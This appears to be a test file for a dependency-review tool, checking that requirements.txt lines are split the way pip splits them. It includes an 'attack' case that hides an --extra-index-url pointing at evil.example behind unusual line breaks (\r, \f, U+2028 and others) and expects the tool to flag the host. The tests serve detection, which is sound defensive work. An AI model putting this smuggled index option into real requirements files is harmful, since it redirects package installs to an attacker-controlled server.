// requirements*.txt split into logical lines as pip's preprocessing does (req_file.preprocess: splitlines,
// join continuations, drop comments). The expected lines are pip's (23.2) for each text. A reader that
// ended lines only at \n missed an index option pip reads after a lone \r, \f or U+2028.
import { reviewDependencyChange } from '../../../src/core/dependency-review.js';
import { requirementLines } from '../../../src/core/formats/requirements.js';

describe('requirements logical lines', () => {
  test.each([
    ['requests==2.31.0\nflask\n', ['requests==2.31.0', 'flask']],
    ['a\rb\fc\u2028d\x85e\r\nf', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['-i \\\nhttps://a.example/simple\n', ['-i https://a.example/simple']],
    ['-\\\nihttps://a.example/simple\n', ['-i https://a.example/simple']],
    ['x # comment \\\n--index-url https://a.example/\n', ['x']],
    ['# comment \\\ny\n', ['y']],
    ['  # indented comment\nz  # trailing\n', ['z']],
    ['pkg#egg\n', ['pkg#egg']],
  ])('%j', (text, expected) => {
    expect(requirementLines(text)).toEqual(expected);
  });
});

describe('attack: an index option after a line break only pip sees', () => {
  test.each(['\r', '\f', '\v', '\u2028', '\x85', '\x1c'])('a %j before --extra-index-url', (sep) => {
    const head = `requests==2.31.0${sep}--extra-index-url https://evil.example/simple\n`;
    const f = reviewDependencyChange('requirements.txt', 'requests==2.31.0\n', head, ['pypi.org', 'files.pythonhosted.org']);
    // The source rule denies the host; the file's own rule says what the setting is.
    expect(f.map((x) => x.code)).toEqual(['dependency_host_not_allowed', 'python_index']);
    expect(f.find((x) => x.code === 'python_index')!.message).toContain('host "evil.example" is not in the network allow list');
  });
});
